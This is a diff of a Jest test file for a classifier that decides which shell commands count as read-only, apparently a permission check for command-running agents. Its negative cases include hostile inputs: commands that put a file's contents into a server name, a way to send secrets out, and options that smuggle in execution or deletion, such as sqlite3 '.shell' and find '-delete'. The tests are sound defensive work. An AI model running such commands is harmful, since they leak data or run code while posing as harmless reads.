@@ -2,7 +2,7 @@ import { describe, expect, it } from '@jest/globals';
 import { classify } from './classify.js';
 import { knownReadOnly } from './known-read-only.js';
 
-/** What people and models look at every day. */
+/** Commands that people and models use for reading every day. */
 const EVERYDAY = `
 ls
 ls -la
@@ -42,6 +42,12 @@ uname -a
 whoami
 id
 hostname
+curl -s -m 3 gate:8443
+rsync --contimeout=2 rsync://nas/backup
+redis-cli info memory
+redis-cli --scan | sort
+docker compose logs --no-log-prefix web
+sqlite3 -readonly a.db "pragma integrity_check"
 date
 date +%F
 date -u
@@ -321,7 +327,14 @@ find . -fprint f
 find . -fls f
 find . -files0-from f -delete
 fd -x touch
-curl -s http://x
+curl -s http://x.com
+curl -s gate/x?y=1
+rsync a b
+rsync -e ./x h:a
+redis-cli eval x
+redis-cli -x info
+sqlite3 a "pragma integrity_check"
+sqlite3 -readonly a ".shell ls"
 tar tvf a --index-file=f
 tar -tf a -I x
 script -q f -c true
@@ -365,21 +378,21 @@ virsh domlaunch x
   .trim()
   .split('\n');
 
-describe('what is known to only read', () => {
-  it('is nearly all that people read with every day', () => {
+describe('commands that are known as read-only', () => {
+  it('nearly all commands that people run every day to read something are known as read-only', () => {
     expect(EVERYDAY.length).toBeGreaterThanOrEqual(200);
     const missed = EVERYDAY.filter((text) => !knownReadOnly(text));
     expect(missed.filter((text) => classify(text).verdict !== 'safe')).toEqual([]);
     expect([missed, missed.length <= EVERYDAY.length * 0.03]).toEqual([missed, true]);
   });
 
-  it('is nothing that writes, runs or opens something else by an option, a variable or a redirection', () => {
+  it('a command is not known as read-only if an option, a variable or a redirection writes, runs or opens something else', () => {
     expect(NEVER.filter(knownReadOnly)).toEqual([]);
   });
 });
 
-describe('what was taken for reading once', () => {
-  it('is not known to be', () => {
+describe('commands that were once mistaken for read-only ones', () => {
+  it('commands that were once wrongly known as read-only no longer are', () => {
     const texts = [
       'env - rm x',
       'git branch -u o/x',
@@ -387,8 +400,26 @@ describe('what was taken for reading once', () => {
       'kubectl get pods --kubeconfig evil',
       'journalctl --flush',
       'openssl s_client -connect h:443 < req.txt',
+      // The name of a server, or a part of it, comes from a file.
+      'openssl s_client -connect "$(cat k).x:443"',
+      'git ls-remote "https://x/$(cat k)"',
+      'restic -r "rest:http://$(cat k).x/" snapshots',
+      'borg list "ssh://nas/$(cat k)::a"',
+      'docker -H "tcp://$(cat k).x" ps',
+      'pg_isready --host="$(cat k).x"',
+      'redis-cli -h"$(cat k).x" ping',
+      'rsync "rsync://x/$(cat k)"',
     ];
     expect(texts.filter(knownReadOnly)).toEqual([]);
-    expect(['env - ls', 'git branch -a', 'journalctl -u x'].filter((text) => !knownReadOnly(text))).toEqual([]);
+    const fine = [
+      'env - ls',
+      'git branch -a',
+      'journalctl -u x',
+      'rsync --contimeout=2 rsync://nas/backup',
+      'for f in *.crt; do openssl x509 -noout -enddate -in "$f"; done',
+      'for each in $(borg list --short /srv/borg); do borg info "/srv/borg::$each"; done',
+      'for a in $(borg list --short ssh://nas/srv/borg); do echo "$a"; borg list --short ssh://nas/srv/borg::$a; done',
+    ];
+    expect(fine.filter((text) => !knownReadOnly(text))).toEqual([]);
   });
 });
